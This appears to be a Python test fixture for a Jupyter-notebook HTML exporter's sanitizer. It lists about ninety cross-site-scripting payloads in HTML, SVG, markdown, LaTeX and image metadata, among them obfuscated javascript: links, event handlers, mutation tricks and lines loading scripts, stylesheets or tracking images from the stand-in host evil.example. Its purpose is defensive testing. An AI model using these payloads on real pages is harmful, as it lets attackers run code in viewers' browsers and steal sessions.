"""What a student could write or print to act in the browser of who looks at it."""

import base64
import json

from cells import PNG, html, shown, text
from nbformat.notebooknode import from_dict
from nbformat.v4 import new_code_cell, new_raw_cell

# Run by an attack that works: it leaves its number on the page.
ACT = "document.documentElement.setAttribute('harmed'+{0},1)"


def counted(count):
    output = {"output_type": "execute_result", "data": {"text/plain": "1"}, "metadata": {}}
    cell = {**new_code_cell("1"), "execution_count": count}
    return from_dict({**cell, "outputs": [{**output, "execution_count": count}]})


def encoded(markup):
    return base64.b64encode(markup.encode()).decode()


# JS stands for what an attack runs. The last rows swallow what follows them on a page.
ATTACKS = {
    "html script": html("<script>JS</script>"),
    "html script, upper case": html("<SCRIPT SRC=//evil.example/x.js></SCRIPT><ScRiPt>JS</sCrIpT>"),
    "html image error": html('<img src=x onerror="JS">'),
    "html image error, slashes": html('<img/src="x"/onerror=JS>'),
    "html svg": html('<svg onload="JS"><script>JS</script></svg>'),
    "html body": html('<body onload="JS">'),
    "html frame": html('<iframe srcdoc="<script>parent.JS</script>"></iframe>'),
    "html frame of a script": html('<iframe src="javascript:parent.JS"></iframe>'),
    "html link": html('<a href="javascript:JS">x</a>'),
    "html link, entity": html('<a href="java&#115;cript:JS">x</a>'),
    "html link, tab": html('<a href="  java\tscript&colon;JS">x</a>'),
    "html link, control": html('<a href="\x01javascript:JS">x</a>'),
    "html link, vbscript": html('<a href="vbscript:msgbox(1)">x</a>'),
    "html link, page as data": html('<a href="data:text/html,<script>JS</script>">x</a>'),
    "html object": html('<object data="data:text/html,<script>JS</script>"></object>'),
    "html embed": html('<embed src="data:text/html,<script>JS</script>">'),
    "html form": html('<form action="//evil.example"><button formaction="javascript:JS">x</form>'),
    "html refresh": html('<meta http-equiv="refresh" content="99;url=javascript:JS">'),
    "html sheet": html('<link rel="stylesheet" href="//evil.example/x.css">'),
    "html base": html('<base href="//evil.example/">'),
    "html style": html("<style>body {display: none}</style>"),
    "html cover": html('<div style="position: fixed; background: url(//evil.example/x)">x</div>'),
    "html details": html('<details open ontoggle="JS">x</details>'),
    "html focus": html('<input autofocus onfocus="JS">'),
    "html animation": html(
        "<style>@keyframes a{}</style><b style='animation:a' onanimationstart=JS>"
    ),
    "html math": html("<math><mtext><table><mglyph><style><img src=x onerror=JS></style></table>"),
    "html title": html('<svg></p><style><g title="</style><img src=x onerror=JS>">'),
    "html noscript": html('<noscript><p title="</noscript><img src=x onerror=JS>">'),
    "html template": html('<template><script>JS</script></template><img src=x onerror="JS">'),
    "html sound": html('<audio src=x onerror="JS"></audio><video><source onerror="JS"></video>'),
    "html svg picture": html(f'<img src="data:image/svg+xml;base64,{encoded("<svg/>")}">'),
    "html distant picture": html('<img src="http://evil.example/spy.png">'),
    "html formula": html(r"<p>$\href{javascript:JS}{x}$</p>"),
    "html formula, entity": html("<p>$&#92;h&#114;ef{javascript:JS}{x}$</p>"),
    "html isolated": shown(
        {"text/html": "<script>parent.JS</script>"}, {"text/html": {"isolated": 1}}
    ),
    "svg": shown({"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="JS"/>'}),
    "javascript": shown({"application/javascript": "JS"}),
    "mermaid": shown({"text/vnd.mermaid": "<script>JS</script>"}),
    "latex": shown({"text/latex": r"$\href{javascript:JS}{x}$"}),
    "png width": shown({"image/png": PNG}, {"image/png": {"width": "1 onload=JS onerror=JS"}}),
    "png alt": shown({"image/png": PNG}, {"image/png": {"alt": '" onload="JS'}}),
    "png elsewhere": shown({"image/png": PNG}, {"filenames": {"image/png": "javascript:JS"}}),
    "jpeg height": shown({"image/jpeg": PNG}, {"image/jpeg": {"height": "1 onerror=JS"}}),
    "output markdown": shown({"text/markdown": "# x\n\n<script>JS</script>"}),
    "output markdown link": shown({"text/markdown": "[x](javascript:JS)"}),
    "output markdown attachment": shown({"text/markdown": "![x](attachment:a.png)"}),
    "count": counted("<script>JS</script>"),
    "text script": text("Hello <script>JS</script>"),
    "text image error": text('*x* <img src=x onerror="JS">'),
    "text handler": text('<b onmouseover="JS">x</b>'),
    "text link": text("[x](javascript:JS)"),
    "text link, entity": text("[x](java&#115;cript:JS)"),
    "text link, upper case": text('[x](JaVaScRiPt:JS "title")'),
    "text link, data": text("[x](data:text/html;base64,PHNjcmlwdD4=)"),
    "text link, prefix that goes": text("[x](files/javascript:JS)"),
    "text autolink": text("<javascript:JS>"),
    "text reference": text("[x][r]\n\n[r]: javascript:JS"),
    "text reference, entity": text("[r]\n\n[r]: <java&#x73;cript:JS>"),
    "text picture of a script": text("![x](javascript:JS)"),
    "text picture link": text("[![x](a.png)](javascript:JS)"),
    "text distant picture": text("![x](http://evil.example/spy.png)"),
    "text picture that logs out": text("![x](/logout)"),
    "text mermaid": text("```mermaid\n</pre><script>JS</script>\n```"),
    "text heading": text('# x <img src=x onerror="JS">'),
    "text table": text('|a|\n|-|\n|<img src=x onerror="JS">|'),
    "text list": text('- a\n  > <img src=x\n  > onerror="JS">'),
    "text after code": text('`a` <img src=x onerror="JS"> `b`'),
    "text between escapes": text('\\`<img src=x onerror="JS">\\`'),
    "text between dollars": text(
        '\\$<img src=x onerror="JS">\\$ and \\\\$ <script>JS</script> \\\\$'
    ),
    "text svg": text('<svg><animate onbegin="JS" attributeName=x dur=1s></svg>'),
    "text frame": text('<iframe src="javascript:parent.JS"></iframe>'),
    "text details": text('<details open ontoggle="JS">\n\n**x**\n\n</details>'),
    "text formula": text(r"$\href{javascript:JS}{x}$"),
    "text formula, block": text("$$\n\\class{x}{\\style{position:fixed}{y}}\n$$"),
    "text formula, new command": text(r"$\def\x#1{#1} \newcommand{\frac}[2]{#1} \require{html}$"),
    "text formula, escaped": text(r"\$\\href{javascript:JS}{x}\$"),
    "text svg attachment": text(
        "![x](attachment:a.svg)", a_svg={"image/svg+xml": encoded("<svg/>")}
    ),
    "text page attachment": text(
        "![x](attachment:a)", a={"text/html": encoded("<script>JS</script>")}
    ),
    "text no attachment": text("![x](attachment:a.png)"),
    "text end of page": text("</div></div></div></body></html><script>JS</script>"),
    "raw": new_raw_cell('<img src=x onerror="JS"><script>JS</script>'),
    "raw, as html": new_raw_cell("<iframe></iframe>", metadata={"raw_mimetype": "text/html"}),
    "text comment": text('<!-- --!><img src=x onerror="JS"> -->'),
    "text style": text("<style>body {display: none}</style>"),
    "html unclosed": html('<img src=x onerror="JS" x="'),
    "html textarea": html('</textarea><img src=x onerror="JS"><textarea>'),
    "html comment": html('<!--><img src=x onerror="JS">'),
    "text unclosed": text("<img src=x onerror=JS //"),
    "text plain to the end": text("<xmp><p title='</xmp><img src=x onerror=JS>'><plaintext>"),
}
# The stock exporter makes no page of these, so a whole class would get no feedback.
STOPPERS = {"count", "output markdown attachment", "text no attachment"}
# The parsers of stock nbconvert, or of this test, already make nothing of these.
TAME = {"png alt", "raw", "raw, as html", "text comment", "html unclosed", "text unclosed"}


def armed(cell, number=0):
    script = ACT.format(number)
    return from_dict(json.loads(json.dumps(cell).replace("JS", script)))
